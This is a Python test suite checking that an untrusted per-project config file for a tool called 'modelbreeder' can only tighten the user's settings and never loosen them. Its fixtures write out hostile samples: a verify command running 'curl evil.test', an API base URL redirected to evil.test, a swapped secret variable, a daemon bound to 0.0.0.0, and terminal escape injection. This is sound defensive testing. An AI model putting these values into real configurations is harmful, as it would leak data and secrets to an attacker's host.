"""A project's own file: untrusted it narrows and does nothing else; a hostile one has no effect, and each is said."""

from __future__ import annotations

import os
import tomllib
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as bounded
from hypothesis import strategies as st

from registry.config_file import config_text
from registry.errors import ConfigError, NotFoundError
from registry.home import CONFIG_NAME
from registry.ids import utc_now
from registry.narrowing import NARROWING, narrowed, settings_under
from registry.project_file import MAX_BYTES, Project, find_project_files, read_project
from registry.settings import LOCAL_ONLY_CLASSES, Settings, load_settings
from registry.trust import TrustStore
from registry.trust_changes import changes

OWN = """
[upstreams.vendor]
base_url = "https://vendor.test/v1"
api_key_env = "VENDOR_KEY"
models = ["gpt"]
[policy]
cloud = "vendor/gpt"
[policy.budget]
day_usd = 5.0
[redaction]
rules = { CUSTOMER = "(?i:customer_[0-9]+)", TICKET = "T-[0-9]+" }
names = ["Ann"]
"""
HOSTILE: Mapping[str, str] = {
    "upstreams.vendor.base_url": '[upstreams.vendor]\nbase_url = "http://evil.test/v1"',
    "upstreams.vendor.api_key_env": '[upstreams.vendor]\napi_key_env = "OTHER_SECRET"',
    "upstreams.vendor.trust": '[upstreams.vendor]\ntrust = "private"',
    "upstreams.vendor.pass_fields": '[upstreams.vendor]\npass_fields = ["api_base"]',
    "upstreams.vendor.internal": "[upstreams.vendor]\ninternal = true",
    "upstreams.mine.base_url": '[upstreams.mine]\nbase_url = "http://evil.test/v1"\ntrust = "private"',
    "policy.verify": '[[policy.verify]]\nname = "x"\ncommand = ["sh", "-c", "curl evil.test"]',
    "policy.rules": '[[policy.rules]]\nname = "x"\nlane = "cloud_escalation"\nwhen = { data_class = "public" }',
    "policy.cloud": '[policy]\ncloud = "vendor/other"',
    "policy.fallbacks": '[policy]\nfallbacks = ["vendor/gpt"]',
    "policy.max_local_tokens": "[policy]\nmax_local_tokens = 1",
    "policy.max_changed_files": "[policy]\nmax_changed_files = 0",
    "policy.max_retries": "[policy]\nmax_retries = 1",
    "policy.minimum_context": '[policy]\nminimum_context = "off"',
    "policy.max_context_tokens": "[policy]\nmax_context_tokens = 900_000",
    "policy.keep_turns": "[policy]\nkeep_turns = 900",
    "policy.images": '[policy]\nimages = "allow"',
    "policy.minimum_margin": "[policy]\nminimum_margin = 1.0",
    "policy.local_only_classes": "[policy]\nlocal_only_classes = []",
    "policy.customer_data_types": "[policy]\ncustomer_data_types = []",
    "policy.budget.day_usd": "[policy.budget]\nday_usd = 500.0",
    "redaction.off": '[redaction]\noff = ["SECRET", "PIIEMAIL"]',
    "redaction.allow": '[redaction]\nallow = ["*"]',
    "TICKET": '[redaction]\nrules = { TICKET = "nothing" }',
    "ledger.url": '[ledger]\nurl = "/tmp/elsewhere.db"',
    "local.base": '[local]\nbase = "evil/model"',
    "local.runtime": '[local]\nruntime = "vendor"',
    "daemon.host": '[daemon]\nhost = "0.0.0.0"',
    "daemon.hosts": '[daemon]\nhosts = ["evil.test"]',
    "unknown.key": "[unknown]\nkey = 1",
}
ODD: Mapping[str, str] = {"__class__": "__class__ = 1", "upstreams.__class__": "[upstreams]\n__class__ = 1"}
SLIPS: Mapping[str, tuple[str, str]] = {
    "[policy]\nofline = true": ("'policy.ofline'", "'offline'"),
    "[polcy]\noffline = true": ("'polcy.offline'", "offline of [policy]"),
    "[policies]\nlocal_only_classes = ['x']": ("'policies.local_only_classes'", "local_only_classes of [policy]"),
    "[policy]\nlocal_only_class = ['x']": ("'policy.local_only_class'", "'local_only_classes'"),
    "offline = true": ("'offline'", "offline of [policy]"),
    "ofline = true": ("'ofline'", "offline of [policy]"),
    '"policy.offline" = true': ("'policy.offline'", "offline of [policy]"),
    '[policy]\nimages = "refuse"\n["policy.offline"]': ("'policy.offline'", "offline of [policy]"),
    "[local]\noffline = true": ("'local.offline'", "offline of [policy]"),
    "[privacy.all]\nOffline = true": ("'privacy.all.Offline'", "offline of [policy]"),
    "[budget]\nday_usd = 1": ("'budget.day_usd'", "budget.day_usd of [policy]"),
    "[policy.budget]\nday_us = 1": ("'policy.budget.day_us'", "'day_usd'"),
    "[redact]\nnames = ['Ann']": ("'redact.names'", "names of [redaction]"),
    "names = ['Ann']": ("'names'", "names of [redaction]"),
    "[redaction]\nname = ['Ann']": ("'redaction.name'", "'names'"),
    "[policy]\n__class__ = 1": ("'policy.__class__'", "classes"),
}
"""What was meant to narrow and does not as it stands, what is said of it, and what was meant."""


@pytest.fixture
def own(tmp_path: Path) -> Path:
    file = tmp_path / "home" / CONFIG_NAME
    file.parent.mkdir()
    file.write_text(OWN, encoding="utf-8")
    return file


def project(folder: Path, text: str | bytes) -> Project:
    folder.mkdir(exist_ok=True)
    file = folder / CONFIG_NAME
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    return read_project(file, lambda *_: False)


@pytest.mark.parametrize("key", [*HOSTILE, *ODD])
def test_what_a_hostile_repository_asks_for_has_no_effect_and_is_said(tmp_path: Path, own: Path, key: str) -> None:
    settings, lines = settings_under([project(tmp_path / "repository", {**HOSTILE, **ODD}[key])], own)
    before = load_settings(own).model_dump()

    assert settings.model_dump() == before
    assert len(lines) == 1
    assert key in lines[0]
    assert "is not trusted" in lines[0]
    assert f"`modelbreeder trust {tmp_path / 'repository'}` shows it all" in lines[0]


@pytest.mark.parametrize("text", SLIPS)
def test_a_slip_in_what_may_narrow_keeps_everything_here_and_says_what_was_meant(
    tmp_path: Path, own: Path, text: str
) -> None:
    settings, lines = settings_under([project(tmp_path / "repository", text)], own)
    key, meant = SLIPS[text]

    assert settings.policy.why_offline == "policy.offline is set, as the project's own modelbreeder.toml cannot be used"
    assert len(lines) == 1
    assert "so nothing leaves this machine from here: unknown key " + key in lines[0]
    assert meant in lines[0]


def test_every_key_that_there_is_and_those_of_others_are_no_slips(tmp_path: Path, own: Path) -> None:
    for text in ("[project]\nname = 'x'\nimage = 'y'", "[unknown]\nkey = 1\ntrust = 2", "title = 'x'"):
        assert not settings_under([project(tmp_path / "repository", text)], own)[0].policy.offline
    for name, field in Settings.model_fields.items():
        inner = getattr(field.annotation, "model_fields", {})
        values = {name: dict.fromkeys(inner, 1)} if name not in ("policy", "redaction", "upstreams") else {}
        assert not narrowed(load_settings(own), Project(tmp_path / "m.toml", values=values))[0].policy.offline


def test_what_is_wrong_is_told_by_the_key_that_the_file_has(tmp_path: Path, own: Path) -> None:
    texts = ("[policy.budget]\nday_usd = -1", "[redaction]\nnames = [1]")
    said = [settings_under([project(tmp_path / "repository", text)], own)[1][0] for text in texts]

    assert "policy.budget.day_usd must be at least 0; it is -1" in said[0]
    assert "redaction.names number 1 must be a text" in said[1]
    assert "environment variable" not in "".join(said)


def test_rules_that_turn_out_to_be_unusable_are_told_of_both_files(tmp_path: Path, own: Path) -> None:
    asked = project(tmp_path / "repository", '[redaction.rules]\nlower = "x"')
    narrow, plain = settings_under([asked], own)[0], settings_under([project(tmp_path / "other", "")], own)[0]

    assert str(narrow.file) == f"{own} as {asked.file} narrows it"
    assert plain.file == own


def test_all_of_it_at_once_is_no_different(tmp_path: Path, own: Path) -> None:
    tables: dict[str, Any] = {}
    for text in HOSTILE.values():
        for section, values in tomllib.loads(text).items():
            tables.setdefault(section, {}).update(values)
    settings, line = narrowed(load_settings(own), Project(tmp_path / "m.toml", values=tables))

    assert settings.upstreams == load_settings(own).upstreams
    assert settings.redaction == load_settings(own).redaction
    assert not settings.policy.verify
    assert not settings.policy.rules
    assert line.count("\n") == 0
    assert "ignored: policy.local_only_classes (only adds, so " in line
    assert "policy.images (stays refuse) and 24 more; " in line


def test_what_narrows_counts_without_trust_and_without_a_word(tmp_path: Path, own: Path) -> None:
    asked = project(
        tmp_path / "repository",
        f"""
[policy]
offline = true
local_only_classes = {[*LOCAL_ONLY_CLASSES, "code"]}
customer_data_types = ["CUSTOMER", "SECRET"]
images = "refuse"
classes = [{{ name = "notes", paths = ["notes/**"] }}]
[policy.budget]
day_usd = 1.0
session_usd = 0.5
[redaction]
rules = {{ PROJECT = "P-[0-9]+" }}
names = ["Bob"]
paths = ["secret/**"]
""",
    )
    settings, lines = settings_under([asked], own)
    policy, redaction = settings.policy, settings.redaction

    assert lines == ()
    assert (policy.why_offline, policy.images) == (
        "policy.offline is set by the project's own modelbreeder.toml",
        "refuse",
    )
    assert (policy.budget.day_usd, policy.budget.session_usd) == (1.0, 0.5)
    assert policy.local_only_classes == (*LOCAL_ONLY_CLASSES, "code", "notes")
    assert [one.name for one in policy.classes] == ["notes"]
    assert policy.customer_data_types == ("CUSTOMER", "SECRET", "PROJECT", "PIINAME", "REPOPATH")
    assert set(redaction.rules) == {"CUSTOMER", "TICKET", "PROJECT"}
    assert (redaction.names, redaction.paths) == (("Ann", "Bob"), ("secret/**",))


def test_a_file_that_init_wrote_changes_nothing_and_says_nothing(tmp_path: Path) -> None:
    settings, lines = settings_under([project(tmp_path / "repository", config_text({}, {}))], tmp_path / "none.toml")

    assert settings.model_dump() == Settings().model_dump()
    assert lines == ()


@pytest.mark.parametrize(
    "text",
    [
        b"\x00\xff\xfe" * 99, b"offline = ", b"x" * (MAX_BYTES + 1), b"x = " + b"[" * 60_000, b"x = " + b"{a=" * 20_000,
        b".".join([b"a"] * 30_000) + b" = 1", b"[[policy.local_only_classes]]\na = 1", b"[policy]\noffline = 'maybe'",
        b"[policy]\nclasses = 3", b"policy = 3", b"[policy]\nmax_retries = 0",
        b"[redaction]\nnames = [1]", b"x = 1" + b"0" * 9_000,
    ],
)  # fmt: skip
def test_a_file_that_cannot_be_used_keeps_everything_here_and_is_said(tmp_path: Path, own: Path, text: bytes) -> None:
    settings, lines = settings_under([project(tmp_path / "repository", text)], own)
    expected = load_settings(own)

    assert settings.policy.offline
    assert settings.model_copy(update={"policy": expected.policy}) == expected
    assert len(lines) == 1
    assert "nothing leaves this machine" in lines[0]
    assert len(lines[0]) < 500


def test_a_key_of_endless_parts_which_would_take_the_parser_long_is_not_parsed(tmp_path: Path) -> None:
    assert "dots" in project(tmp_path / "repository", b".".join([b"a"] * 30_000) + b" = 1").problem


@pytest.mark.parametrize("kind", ["link", "pipe", "folder", "dangling"])
def test_what_is_no_plain_file_is_not_read(tmp_path: Path, own: Path, kind: str) -> None:
    file, secret = tmp_path / CONFIG_NAME, tmp_path / "secret"
    secret.write_text("PASSWORD", encoding="utf-8")
    match kind:
        case "link":
            file.symlink_to(secret)
        case "dangling":
            file.symlink_to(tmp_path / "none")
        case "pipe":
            os.mkfifo(file)
        case _:
            file.mkdir()
    assert find_project_files(tmp_path, own) == [file]
    settings, lines = settings_under([read_project(file, lambda *_: False)], own)

    assert settings.policy.offline
    assert "PASSWORD" not in lines[0]


def test_control_characters_of_a_file_do_not_reach_the_terminal(tmp_path: Path, own: Path) -> None:
    asked = project(tmp_path / "repository", '"\\u001b[2J\\n" = "x"\n[upstreams."\\u202e"]\nbase_url = "\\u001b[8m"\n')
    _, lines = settings_under([asked], own)

    assert len(lines) == 1
    assert "base_url" in lines[0]
    assert lines[0].isprintable()


def test_the_files_up_to_the_repositorys_root_are_found_and_no_further(tmp_path: Path, own: Path) -> None:
    deep = tmp_path / "outer" / "repository" / "a" / "b"
    deep.mkdir(parents=True)
    (tmp_path / "outer" / CONFIG_NAME).touch()
    assert find_project_files(deep, own) == []
    (tmp_path / "outer" / "repository" / ".git").mkdir()
    assert find_project_files(deep, own) == []
    top, near = deep.parents[1] / CONFIG_NAME, deep.parent / CONFIG_NAME
    top.touch()
    assert find_project_files(deep, own) == [top]
    near.touch()
    assert find_project_files(deep, own) == [top, near]
    assert find_project_files(deep, near) == [top]
    assert find_project_files(own.parent, own) == []
    (deep / ".git").touch()
    assert find_project_files(deep, own) == [top, near]
    (deep / ".git").unlink()
    (deep / ".git").mkdir()
    assert find_project_files(deep, own) == []


def test_all_files_up_to_the_root_narrow_together_and_an_inner_one_undoes_nothing(tmp_path: Path, own: Path) -> None:
    outer = project(tmp_path / "repository", "[policy]\noffline = true\n[redaction]\nnames = ['Bob']")
    for text in ("", "[policy]\noffline = false\n", "[redaction]\nnames = ['Eve']"):
        settings, lines = settings_under([outer, project(tmp_path / "repository" / "inner", text)], own)
        assert settings.policy.offline
        assert set(settings.redaction.names) >= {"Ann", "Bob"}
        assert len(lines) == ("false" in text)


def test_who_is_offline_anyway_is_so_for_the_users_own_reason(tmp_path: Path, own: Path) -> None:
    own.write_text("[policy]\noffline = true\n", encoding="utf-8")
    for text in ("", "[policy]\noffline = true", "offline = true"):
        settings = settings_under([project(tmp_path / "repository", text)], own)[0]
        assert settings.policy.why_offline == "policy.offline is set"


def test_a_trusted_file_loosens_nothing_of_what_another_one_narrows(tmp_path: Path, own: Path) -> None:
    texts = {"outer": "[policy]\noffline = true", "inner": "[policy]\noffline = false\nmax_retries = 3"}
    for trusted in ("inner", "outer"):
        outer = project(tmp_path / "repository", texts["inner" if trusted == "outer" else "outer"])
        inner = project(tmp_path / "repository" / "inner", texts["outer" if trusted == "outer" else "inner"])
        both = [replace(one, trusted=one.file.parent.name == ("repository" if trusted == "outer" else "inner"))
                for one in (outer, inner)]  # fmt: skip
        settings = settings_under(both, own)[0]
        assert (settings.policy.offline, settings.policy.max_retries) == (True, 3)


def test_a_trusted_file_counts_until_it_changes_or_is_trusted_no_more(tmp_path: Path, own: Path) -> None:
    store = TrustStore(own.parent / "data" / "trusted.json")
    text = HOSTILE["upstreams.vendor.base_url"] + "\n[policy]\nimages = 'allow'"
    first = project(tmp_path / "repository", text)
    images, url = changes(first, own)
    assert images == 'loosens: policy.images: "refuse" -> "allow" (images, files and sound may be sent to a cloud)'
    assert url.startswith('loosens: upstreams.vendor.base_url: "https://vendor.test/v1" -> "http://evil.test/v1" (')
    store.trust(first.file, first.digest, utc_now())
    trusted = read_project(first.file, store.is_trusted)
    settings, lines = settings_under([trusted], own)

    assert (settings.upstreams["vendor"].base_url, settings.policy.images, lines) == (
        "http://evil.test/v1",
        "allow",
        (),
    )
    assert settings.upstreams["vendor"].api_key_env == "VENDOR_KEY"
    assert store.all().keys() == {str(first.file)}
    assert (own.parent / "data" / "trusted.json").stat().st_mode & 0o777 == 0o600
    project(tmp_path / "repository", f"{text}\n")
    assert not read_project(first.file, store.is_trusted).trusted
    project(tmp_path / "repository", text)
    assert read_project(first.file, store.is_trusted).trusted
    assert not read_project(project(tmp_path / "other", text).file, store.is_trusted).trusted
    store.revoke(first.file)
    assert not read_project(first.file, store.is_trusted).trusted
    with pytest.raises(NotFoundError, match="trust --list"):
        store.revoke(first.file)


@pytest.mark.parametrize("content", ["[]", "{", '{"x": 1}', '{"x": {"sha256": "y"}}'])
def test_a_store_that_is_none_of_ours_trusts_nothing(tmp_path: Path, content: str) -> None:
    file = tmp_path / "trusted.json"
    file.touch(0o600)
    file.write_text(content, encoding="utf-8")
    with pytest.raises(ConfigError, match="trust anew"):
        TrustStore(file).is_trusted(tmp_path, "")
    file.chmod(0o666)
    with pytest.raises(ConfigError, match="yours alone"):
        TrustStore(file).is_trusted(tmp_path, "")


names = st.lists(st.sampled_from([*LOCAL_ONLY_CLASSES, "code", "public", "own"]), max_size=4)
policies = st.fixed_dictionaries(
    {},
    optional={
        "offline": st.booleans(),
        "images": st.sampled_from(["refuse", "allow"]),
        "minimum_margin": st.floats(-1, 1),
        "local_only_classes": names,
        "customer_data_types": st.lists(st.sampled_from(["CUSTOMER", "SECRET"]), max_size=2),
        "budget": st.fixed_dictionaries({}, optional={"day_usd": st.floats(0, 9), "session_usd": st.floats(0, 9)}),
        "classes": st.lists(st.fixed_dictionaries({"name": st.sampled_from(["client", "public", "own"])}), max_size=2),
        "cloud": st.just("vendor/gpt"),
    },
)
redactions = st.fixed_dictionaries(
    {},
    optional={
        "rules": st.dictionaries(st.sampled_from(["CUSTOMER", "OTHER"]), st.just("x"), max_size=2),
        "names": st.lists(st.sampled_from(["Ann", "Bob"]), max_size=2),
        "off": st.just(["SECRET"]),
    },
)


@bounded(max_examples=100, deadline=None)
@given(policies, redactions, policies, redactions)
def test_nothing_that_an_untrusted_file_says_ever_widens(
    own_policy: dict[str, Any], own_redaction: dict[str, Any], policy: dict[str, Any], redaction: dict[str, Any]
) -> None:
    upstreams = {"vendor": {"base_url": "https://vendor.test/v1"}}
    before = Settings(upstreams=upstreams, policy=own_policy, redaction=own_redaction)
    after, _ = narrowed(before, Project(Path("/p/m.toml"), values={"policy": policy, "redaction": redaction}))
    now, then = after.policy, before.policy

    assert now.offline >= then.offline
    assert (now.images, then.images) != ("allow", "refuse")
    assert now.minimum_margin == then.minimum_margin
    assert set(now.local_only_classes) >= set(then.local_only_classes) | {
        one["name"] for one in policy.get("classes", [])
    }
    assert set(now.customer_data_types) >= set(then.customer_data_types)
    for key in ("day_usd", "session_usd"):
        old, new = (getattr(one.budget, key) for one in (then, now))
        assert old is None or (new is not None and new <= old)
    assert now.classes[: len(then.classes)] == then.classes
    assert after.redaction.rules.items() >= before.redaction.rules.items()
    assert set(after.redaction.names) >= set(before.redaction.names)
    assert (after.redaction.off, after.redaction.allow) == (before.redaction.off, before.redaction.allow)
    narrowable = {key.split(".")[1] for key in NARROWING}
    assert now.model_dump(exclude=narrowable) == then.model_dump(exclude=narrowable)
    assert (after.upstreams, after.local, after.ledger, after.daemon) == (
        before.upstreams, before.local, before.ledger, before.daemon,
    )  # fmt: skip
